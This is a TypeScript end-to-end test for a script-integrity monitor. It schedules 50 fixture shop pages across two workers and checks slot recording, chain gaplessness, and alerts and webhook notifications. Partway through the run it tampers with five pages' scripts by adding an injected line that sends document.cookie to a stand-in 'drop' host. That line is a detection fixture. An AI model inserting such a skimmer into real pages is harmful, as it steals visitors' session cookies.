// E2E on PostgreSQL at the design's shape: one scheduler, one web process and two workers, 50 pages every 15 s for
// 3 minutes, about 60 % of what the two workers do on 2 cores (their capacity is measured in bench/worker-bench.ts, not
// here). Every slot of every page is recorded exactly once, none is skipped, every chain is gapless and verifies, and
// each planted tamper is alerted once and notified once.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startFixtureSite, type FixtureSite } from '../fixtures/fixture-site.js';
import { runCli, tempProject, writeConfig } from '../fixtures/cli.js';
import { startHttpReceiver, type HttpReceiver } from '../fixtures/receivers.js';
import { rowsOf } from '../fixtures/test-database.js';
import { startRole, type ServeProcess } from '../fixtures/serve-process.js';

const PAGES = 50;
const INTERVAL_MS = 15_000;
const RUN_MS = 180_000;
/** Pages whose script is tampered with a minute in. */
const TAMPERED = [3, 17, 29, 41, 48];

describe('50 pages every 15 s on two workers', () => {
  let site: FixtureSite;
  let hook: HttpReceiver;
  let dir: string;
  const running: ServeProcess[] = [];
  const rows = <R>(sql: string, ...params: (string | number)[]) => rowsOf<R>(dir, sql, ...params);

  beforeAll(async () => {
    site = await startFixtureSite();
    // A site per page (its own registrable domain), so politeness does not hold any back.
    for (let i = 0; i < PAGES; i++) {
      site.set(`shop${i}.test`, '/', '<!doctype html><html><head><script src="/app.js"></script></head><body>shop</body></html>');
      site.set(`shop${i}.test`, '/app.js', `window.app = ${i};`);
    }
    hook = await startHttpReceiver();
    dir = tempProject('sw-scale-');
    const path = writeConfig(dir, Array.from({ length: PAGES }, (_, i) => ({ name: `page${i}`, url: site.url(`shop${i}.test`, '/') })),
      ['every: 15s', 'jitter: 0s', 'queue:\n  jobExpiry: 60s', 'canary:\n  enabled: false', `notify:\n  - type: webhook\n    url: ${hook.url}/hook\n    minSeverity: low`].join('\n'));
    writeFileSync(path, readFileSync(path, 'utf8').replace('  settle: 300ms', '  settle: 100ms\n  concurrency: 4'));
    // The baselines first, so that the run measures rescans.
    assert.equal((await runCli(['scan'], { cwd: dir })).code, 0);
  });
  afterAll(async () => {
    await Promise.all(running.map((p) => p.stop('SIGKILL')));
    await site?.close();
    await hook?.close();
  });

  it('records every slot once, skips none, and alerts and notifies each tamper once', async () => {
    const start = async (args: string[], ready: string) => {
      const p = await startRole(dir, args, ready);
      running.push(p);
      return p;
    };
    const scheduler = await start(['serve', '--role', 'scheduler'], 'serve.started');
    const web = await start(['serve', '--role', 'web', '--port', '0'], 'serve.started');
    const workers = [await start(['worker'], 'worker.started'), await start(['worker'], 'worker.started')];
    const began = Date.now();
    // The lag the web process reports, sampled through the run: how close to capacity the workers ran.
    const lags: number[] = [];
    const sampler = setInterval(() => void fetch(`${web.url}metrics`).then((r) => r.text())
      .then((text) => lags.push(Number(/^scriptwarden_schedule_lag_seconds\{vantage="default"\} ([\d.]+)$/m.exec(text)?.[1] ?? NaN))).catch(() => undefined), 2000);
    await new Promise((resolve) => setTimeout(resolve, RUN_MS / 3));
    for (const i of TAMPERED) site.set(`shop${i}.test`, '/app.js', `window.app = ${i};\nnew Image().src = 'http://drop${i}.test:${site.port}/c?d=' + btoa(document.cookie);`);
    await expect.poll(async () => (await rows<{ n: number }>("SELECT COUNT(DISTINCT target_id) AS n FROM alerts WHERE type = 'script.changed'"))[0]!.n, { timeout: 60_000 }).toBe(TAMPERED.length);
    await new Promise((resolve) => setTimeout(resolve, Math.max(0, RUN_MS - (Date.now() - began))));
    clearInterval(sampler);
    await scheduler.stop('SIGTERM');
    for (const w of workers) await w.stop('SIGTERM');
    for (const p of running) await p.stop('SIGTERM');

    assert.deepEqual(await rows('SELECT target_id, profile, slot FROM scans WHERE slot IS NOT NULL GROUP BY target_id, profile, slot HAVING COUNT(*) > 1'), [], 'no slot recorded twice');
    const load = `schedule lag through the run (s): ${lags.map((l) => l.toFixed(1)).join(' ')}`;
    assert.deepEqual(scheduler.logs.filter((l) => l.event === 'schedule.coalesced').map((l) => `${l.target} ${l.slot}`), [], `no slot folded into a waiting one; ${load}`);
    assert.ok(lags.length > 30 && Math.max(...lags) < INTERVAL_MS / 1000, `the workers kept up: ${load}`);
    // Slots of each page, in order: every one an interval after the one before, from the first to the last.
    const slots = await rows<{ name: string; slot: string }>('SELECT t.name, s.slot FROM scans s JOIN targets t ON t.id = s.target_id WHERE s.slot IS NOT NULL ORDER BY t.name, s.slot');
    const byPage = new Map<string, { slot: string }[]>();
    for (const s of slots) byPage.set(s.name, [...(byPage.get(s.name) ?? []), s]);
    assert.equal(byPage.size, PAGES, 'every page scanned on schedule');
    for (const [name, list] of byPage) {
      const times = list.map((s) => Date.parse(s.slot));
      const gaps = times.slice(1).map((t, i) => t - times[i]!).filter((gap) => gap !== INTERVAL_MS);
      assert.deepEqual(gaps, [], `${name}: a slot skipped between ${list.map((s) => s.slot.slice(11, 19)).join(' ')}`);
      assert.ok(times.length >= RUN_MS / INTERVAL_MS - 2, `${name}: ${times.length} slots in ${RUN_MS / 1000} s`);
    }
    assert.deepEqual(await rows('SELECT target_id, profile FROM scans WHERE chain_seq IS NOT NULL GROUP BY target_id, profile HAVING COUNT(*) <> MAX(chain_seq) OR MIN(chain_seq) <> 1'), [], 'every chain gapless');
    // Each tamper: its script change and its new destination, once each, on its page only, and each notified once.
    const alerts = await rows<{ id: number; name: string; type: string }>("SELECT a.id, t.name, a.type FROM alerts a JOIN targets t ON t.id = a.target_id WHERE a.type <> 'target.unhealthy' ORDER BY a.id");
    assert.deepEqual([...new Set(alerts.map((a) => a.name))].sort(), TAMPERED.map((i) => `page${i}`).sort());
    for (const i of TAMPERED) assert.deepEqual(alerts.filter((a) => a.name === `page${i}`).map((a) => a.type).sort(), ['connection.added', 'script.changed'], `page${i}`);
    const opened = hook.received.map((r) => JSON.parse(r.body) as { event: string; alert: { id: number } }).filter((n) => n.event === 'alert.opened').map((n) => n.alert.id);
    assert.deepEqual(opened.sort((a, b) => a - b), alerts.map((a) => a.id), 'each alert notified once');
    const verified = await runCli(['verify'], { cwd: dir });
    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
  });
});
